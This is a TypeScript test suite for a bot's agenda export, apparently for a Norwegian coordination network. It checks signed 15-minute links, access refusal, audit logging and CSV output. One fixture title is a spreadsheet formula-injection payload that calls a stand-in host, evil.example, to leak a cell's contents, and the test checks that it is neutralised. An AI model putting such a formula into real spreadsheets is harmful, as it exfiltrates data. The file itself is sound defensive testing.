/**
 * Exporting the record of a meeting or a year (issue 11, "after the meeting"), through the real
 * server: the export card from `agenda.export`, its signed links followed as a browser would, and
 * what the files say. The links are bound to the person who asked, expire after 15 minutes, and open
 * nothing once that person no longer curates.
 */
import { expect } from 'chai';
import { parse } from 'csv-parse/sync';
import { t } from '../../../src/cards/i18n.js';
import type { Person } from '../../../src/domain/roster.js';
import { type AgendaItem, newAgendaItem } from '../../../src/features/agenda/agenda-items.js';
import { agendaIn } from '../../../src/features/agenda/agenda-store.js';
import { signExportLink } from '../../../src/features/agenda/export-links.js';
import type { MeetingSeries } from '../../../src/features/meetings/meeting-series.js';
import { meetingsIn } from '../../../src/features/meetings/meeting-store.js';
import { type Harness, startHarness } from '../../support/bot-harness.js';
import { textOf, verbsOf } from '../../support/card-inspect.js';
import { cardAction, type TestUser, user } from '../../support/teams-activities.js';
import { noticeKindsOf } from '../../support/verb-cases.js';

type Card = Record<string, unknown>;

const SECRET = 'export-e2e-secret-0123456789-abcdefgh';
const BASE = 'https://mh-bot.example.org';
const ENV = { CALENDAR_LINK_SECRET: SECRET, PUBLIC_BASE_URL: BASE };
/** Wednesday 20 January 2027, 13:00 in Oslo: after January's coordinators' meeting. */
const NOW = '2027-01-20T12:00:00.000Z';

const NOT_FOUND = { error: { code: 'not_found', message: 'No such resource.' } };
const FORBIDDEN = { error: { code: 'forbidden', message: 'Access to this resource is refused.' } };
const GONE = { error: { code: 'gone', message: 'This resource is no longer available.' } };

const udi = user(1, 'Kari UDI');
const opa = user(2, 'Ola Blåbær');
const family = user(3, 'Fia Familie');
const outsider = user(4, 'Otto Utenfor');
/** Raised an item, then left the network (no longer in the roster). */
const GONE_PERSON = 'aad-gone-99';

const SINCE = '2026-01-01T00:00:00.000Z';
const personOf = (who: TestUser, roles: Person['roles']): Person => ({
  aadObjectId: who.aadObjectId,
  displayName: who.name,
  roles,
  since: SINCE,
});
const ROSTER: Person[] = [
  personOf(udi, [{ kind: 'coordinator', department: 'AUA' }]),
  personOf(opa, [{ kind: 'coordinator', department: 'OPA' }]),
  personOf(family, [{ kind: 'contact', department: 'OPA', unitId: 'opa-family' }]),
];

const COORDINATORS = 'b7e2c0d4-1f3a-4c5e-8d9b-0a1b2c3d4e5f';
const ADHOC = 'c0ffee00-1f3a-4c5e-8d9b-0a1b2c3d4e5f';

/** Second Tuesday of every month at 09:00 Oslo, from November 2026. */
function series(id: string, meetingKind: MeetingSeries['meetingKind'], title: string): MeetingSeries {
  return {
    id,
    reference: 'M-2026-0042',
    kind: 'meeting-series',
    state: 'active',
    createdAt: '2026-10-20T10:00:00.000Z',
    createdBy: udi.aadObjectId,
    updatedAt: '2026-10-25T10:00:00.000Z',
    history: [],
    parties: [],
    cardVersion: 0,
    title,
    meetingKind,
    organiser: udi.aadObjectId,
    invited: [udi.aadObjectId, opa.aadObjectId],
    schedule: {
      recurrence: { kind: 'monthly', nth: 2, weekday: 'TU', everyMonths: 1 },
      from: '2026-11-01',
      time: '09:00',
      durationMinutes: 90,
    },
    agendaDeadlineDays: 7,
    offsets: [],
  };
}

let n = 0;
function item(over: Partial<AgendaItem>, by = opa.aadObjectId): AgendaItem {
  n += 1;
  return {
    ...newAgendaItem(
      `item-${n}`,
      `S-2027-${String(n).padStart(4, '0')}`,
      {
        title: `Sak ${n}`,
        description: `Beskrivelse av sak ${n}.`,
        agendaKind: 'general',
        department: 'OPA',
        forum: 'coordinators',
        urgent: false,
        minutes: 15,
      },
      by,
      '2026-11-20T10:00:00.000Z',
    ),
    ...over,
  };
}
const on = (occurrence: string) => ({ meeting: { seriesId: COORDINATORS, occurrence } });

const ITEMS: AgendaItem[] = [
  item({
    ...on('2027-01-12'),
    state: 'done',
    acceptedSeq: 1,
    title: 'Lik praksis for refleksjonsperiode',
    outcome: { kind: 'clarified', clarification: 'Vurderes likt i alle avdelinger.' },
  }),
  item({
    ...on('2027-01-12'),
    state: 'done',
    acceptedSeq: 2,
    title: '=HYPERLINK("https://evil.example/?x="&A1,"Klikk")',
    outcome: { kind: 'discussed' },
  }),
  item(
    {
      ...on('2027-01-12'),
      state: 'done',
      acceptedSeq: 3,
      title: 'Sak fra en som har sluttet',
      outcome: {
        kind: 'follow-up',
        what: 'Lage sjekkliste',
        owner: GONE_PERSON,
        due: '2027-02-01',
        action: 'a1',
      },
    },
    GONE_PERSON,
  ),
  item({
    ...on('2026-12-08'),
    state: 'done',
    acceptedSeq: 4,
    title: 'Desembersak',
    outcome: { kind: 'referred' },
  }),
  item({ ...on('2027-02-09'), state: 'accepted', acceptedSeq: 5, title: 'Februarsak' }),
  item({ state: 'submitted', title: 'Bare meldt inn' }),
];

describe('agenda: the record exported as Markdown and CSV behind signed links, through the real server', () => {
  let h: Harness;
  let now: Date;

  afterEach(async () => {
    await h?.close();
  });

  async function start(env: Record<string, string> = ENV): Promise<void> {
    now = new Date(NOW);
    h = await startHarness(env, { now: () => now });
    await h.seed(ROSTER);
    await h.bot.app.store.run(async (uow) => {
      await meetingsIn(uow).putSeries(series(COORDINATORS, 'coordinators', 'Koordinatormøte'));
      await meetingsIn(uow).putSeries(series(ADHOC, 'adhoc', 'Arbeidsgruppe'));
      for (const i of ITEMS) await agendaIn(uow).putItem(i);
    });
  }

  async function click(from: TestUser, data: Record<string, unknown>, locale?: string): Promise<Card> {
    const activity = cardAction({
      serviceUrl: h.connector.url,
      from,
      verb: 'agenda.export',
      data,
      ...(locale ? { locale } : {}),
    });
    const { status, body } = await h.post(activity);
    expect(status).to.equal(200);
    return (body as { value: Card }).value;
  }

  /** The OpenUrl actions of a card, by title. */
  function links(card: Card, locale: 'nb' | 'en' = 'nb'): { md: string; csv: string } {
    const found: Record<string, string> = {};
    const walk = (value: unknown): void => {
      if (Array.isArray(value)) value.forEach(walk);
      else if (typeof value === 'object' && value !== null) {
        const node = value as Card;
        if (node.type === 'Action.OpenUrl') found[String(node.title)] = String(node.url);
        Object.values(node).forEach(walk);
      }
    };
    walk(card);
    const md = found[t(locale, 'agenda.exportCard.markdown')];
    const csv = found[t(locale, 'agenda.exportCard.csv')];
    expect(md, 'a Markdown link').to.be.a('string');
    expect(csv, 'a CSV link').to.be.a('string');
    for (const link of [md!, csv!])
      expect(link.startsWith(`${BASE}/api/agenda-export/`), link).to.equal(true);
    return { md: md!, csv: csv! };
  }

  /** Follows a link (absolute, as the card has it) on the running bot. */
  function get(link: string, method = 'GET'): Promise<Response> {
    expect(link.startsWith(BASE)).to.equal(true);
    return fetch(`${h.bot.url}${link.slice(BASE.length)}`, { method });
  }

  async function expectRefused(link: string, status: number, body: unknown): Promise<void> {
    const response = await get(link);
    expect(response.status, link).to.equal(status);
    expect(response.headers.get('content-type'), link).to.match(/^application\/json/);
    expect(await response.json(), link).to.deep.equal(body);
  }

  const meeting = { seriesId: COORDINATORS, occurrenceId: '2027-01-12' };

  it('gives a curator the card with both links, valid 15 minutes (until when, in Oslo time), and a way back', async () => {
    await start();
    const card = await click(udi, meeting);
    expect(noticeKindsOf(card)).to.deep.equal([]);
    const text = textOf(card);
    expect(text)
      .to.include('Koordinatormøte')
      .and.include(t('nb', 'agenda.exportCard.meetingSummary', { items: 3 }));
    // 13:00 in Oslo plus 15 minutes.
    expect(text).to.include('kl. 13:15');
    expect(verbsOf(card)).to.deep.equal(['help.show']);
    const { md, csv } = links(card);
    expect(new URL(md).pathname).to.equal(`/api/agenda-export/meeting/${COORDINATORS}/2027-01-12.md`);
    expect(new URL(csv).pathname).to.equal(`/api/agenda-export/meeting/${COORDINATORS}/2027-01-12.csv`);
    expect(Number(new URL(md).searchParams.get('exp')) * 1000).to.equal(Date.parse(NOW) + 15 * 60_000);
    expect(new URL(md).searchParams.get('by')).to.equal(udi.aadObjectId);
  });

  it('serves one meeting’s record as Markdown: its items in agenda order, names from the roster, someone who left shown as such', async () => {
    await start();
    const { md } = links(await click(opa, meeting));
    const response = await get(md);
    expect(response.status).to.equal(200);
    expect(response.headers.get('content-type')).to.equal('text/markdown; charset=utf-8');
    expect(response.headers.get('content-disposition')).to.equal(
      'attachment; filename="sakliste-2027-01-12.md"',
    );
    expect(response.headers.get('cache-control')).to.equal('no-store');
    expect(response.headers.get('x-content-type-options')).to.equal('nosniff');
    const body = await response.text();
    expect(body.startsWith('# Referat: Koordinatormøte')).to.equal(true);
    expect(body)
      .to.include('Lik praksis for refleksjonsperiode')
      .and.include('Vurderes likt i alle avdelinger.');
    expect(body).to.include('Ola Blåbær').and.include('(har sluttet)');
    expect(body).not.to.include(GONE_PERSON);
    const order = ['S-2027-0001', 'S-2027-0002', 'S-2027-0003'].map((ref) => body.indexOf(ref));
    expect(order.every((at, i) => at > 0 && (i === 0 || at > order[i - 1]!))).to.equal(true);
    for (const other of ['Desembersak', 'Februarsak', 'Bare meldt inn']) expect(body).not.to.include(other);
  });

  it('records each download in the audit log (who, what), before the file leaves (issue 14)', async () => {
    const { readFile } = await import('node:fs/promises');
    const { join } = await import('node:path');
    await start();
    const { md } = links(await click(opa, meeting));
    expect((await get(md)).status).to.equal(200);
    const log = await readFile(join(h.dataDir, 'audit.log'), 'utf8');
    const last = JSON.parse(log.trim().split('\n').at(-1)!);
    expect(last).to.include({
      actor: opa.aadObjectId,
      action: 'export',
      target: 'agenda-export:meeting:2027-01-12',
    });
    expect(log).not.to.include('Lik praksis for refleksjonsperiode');
  });

  it('serves the CSV with a title that starts with "=" neutralised', async () => {
    await start();
    const { csv } = links(await click(udi, meeting));
    const response = await get(csv);
    expect(response.status).to.equal(200);
    expect(response.headers.get('content-type')).to.equal('text/csv; charset=utf-8');
    expect(response.headers.get('content-disposition')).to.equal(
      'attachment; filename="sakliste-2027-01-12.csv"',
    );
    expect(response.headers.get('cache-control')).to.equal('no-store');
    const rows = parse(await response.text(), { bom: true, columns: true }) as Record<string, string>[];
    expect(rows).to.have.length(3);
    const titles = rows.map((row) => row[t('nb', 'agenda.export.csv.title')]);
    expect(titles).to.include(`'=HYPERLINK("https://evil.example/?x="&A1,"Klikk")`);
    expect(titles.filter((title) => title?.startsWith('='))).to.deep.equal([]);
  });

  it('serves a year’s record: its meetings’ items, in the language of the one who asked', async () => {
    await start();
    const card = await click(udi, { periodId: '2027' }, 'en-US');
    expect(textOf(card)).to.include(t('en', 'agenda.exportCard.periodTitle', { year: '2027' }));
    const { md, csv } = links(card, 'en');
    const markdown = await get(md);
    expect(markdown.headers.get('content-disposition')).to.equal('attachment; filename="saker-2027.md"');
    const body = await markdown.text();
    expect(body)
      .to.include('Lik praksis for refleksjonsperiode')
      .and.include('Februarsak')
      .and.include('(has left)');
    expect(body).not.to.include('Desembersak');
    const sheet = await get(csv);
    expect(sheet.headers.get('content-disposition')).to.equal('attachment; filename="saker-2027.csv"');
    const rows = parse(await sheet.text(), { bom: true, columns: true }) as Record<string, string>[];
    expect(rows.map((row) => row[t('en', 'agenda.export.csv.reference')])).to.have.members([
      'S-2027-0001',
      'S-2027-0002',
      'S-2027-0003',
      'S-2027-0005',
    ]);
  });

  it('refuses a contact person: no card with links, and a link forged for them (or carrying their id) opens nothing', async () => {
    await start();
    const card = await click(family, meeting);
    expect(noticeKindsOf(card)).to.include('forbidden');
    expect(JSON.stringify(card)).not.to.include('/api/agenda-export/');
    const { md } = links(await click(udi, meeting));
    // The curator's link with the contact person's id in it: the signature does not match.
    await expectRefused(md.replace(`by=${udi.aadObjectId}`, `by=${family.aadObjectId}`), 403, FORBIDDEN);
    // A correctly signed link for the contact person (as if the secret leaked): the roster says no.
    const forged = signExportLink(
      SECRET,
      {
        target: { kind: 'meeting', seriesId: COORDINATORS, occurrence: '2027-01-12' },
        format: 'md',
        locale: 'nb',
        person: family.aadObjectId,
      },
      now.getTime() + 60_000,
    );
    await expectRefused(`${BASE}${forged}`, 403, FORBIDDEN);
    const stranger = signExportLink(
      SECRET,
      { target: { kind: 'year', year: '2027' }, format: 'csv', locale: 'nb', person: outsider.aadObjectId },
      now.getTime() + 60_000,
    );
    await expectRefused(`${BASE}${stranger}`, 403, FORBIDDEN);
  });

  it('answers 410 once a link is 15 minutes old, and serves it until then', async () => {
    await start();
    const { md } = links(await click(udi, meeting));
    now = new Date(Date.parse(NOW) + 15 * 60_000 - 1000);
    expect((await get(md)).status).to.equal(200);
    now = new Date(Date.parse(NOW) + 15 * 60_000);
    await expectRefused(md, 410, GONE);
  });

  it('refuses a link made for a curator who has since lost the role', async () => {
    await start();
    const { md, csv } = links(await click(opa, meeting));
    expect((await get(md)).status).to.equal(200);
    await h.seed([personOf(opa, [{ kind: 'contact', department: 'OPA', unitId: 'opa-family' }])]);
    await expectRefused(md, 403, FORBIDDEN);
    await h.bot.app.store.run((uow) => uow.people.remove(opa.aadObjectId));
    await expectRefused(csv, 403, FORBIDDEN);
  });

  it('refuses tampered and malformed links with fixed bodies, and keeps them out of the log', async () => {
    await start();
    const { md } = links(await click(udi, meeting));
    const sigAt = md.indexOf('sig=') + 4;
    const flip = `${md.slice(0, sigAt)}${md[sigAt] === 'A' ? 'B' : 'A'}${md.slice(sigAt + 1)}`;
    for (const link of [
      flip,
      md.replace('.md?', '.csv?'),
      md.replace('2027-01-12', '2027-02-09'),
      md.replace('lang=nb', 'lang=en'),
    ])
      await expectRefused(link, 403, FORBIDDEN);
    for (const link of [`${md}&x=1`, md.replace(/&sig=.*$/, ''), `${BASE}/api/agenda-export/year/2027.md`])
      await expectRefused(link, 404, NOT_FOUND);
    const logged = JSON.stringify(h.logs);
    for (const secret of [COORDINATORS, 'sig=', 'exp=', SECRET, udi.aadObjectId.concat('&')])
      expect(logged).not.to.contain(secret);
  });

  it('answers 404 for a meeting that is not an agenda meeting or not a date of its series', async () => {
    await start();
    const signed = (seriesId: string, occurrence: string) =>
      `${BASE}${signExportLink(SECRET, { target: { kind: 'meeting', seriesId, occurrence }, format: 'md', locale: 'nb', person: udi.aadObjectId }, now.getTime() + 60_000)}`;
    await expectRefused(signed(ADHOC, '2027-01-12'), 404, NOT_FOUND);
    await expectRefused(signed(COORDINATORS, '2027-01-13'), 404, NOT_FOUND);
    await expectRefused(signed('d00d0000-1f3a-4c5e-8d9b-0a1b2c3d4e5f', '2027-01-12'), 404, NOT_FOUND);
    expect((await get(signed(COORDINATORS, '2027-01-12'))).status).to.equal(200);
  });

  it('says exports are not set up, with no buttons, when the links are not configured; the route answers 404', async () => {
    await start({});
    const card = await click(udi, meeting);
    expect(textOf(card)).to.include(t('nb', 'agenda.exportCard.notConfigured'));
    expect(JSON.stringify(card)).not.to.include('Action.OpenUrl');
    const link = signExportLink(
      SECRET,
      { target: { kind: 'year', year: '2027' }, format: 'md', locale: 'nb', person: udi.aadObjectId },
      now.getTime() + 60_000,
    );
    await expectRefused(`${BASE}${link}`, 404, NOT_FOUND);
  });
});
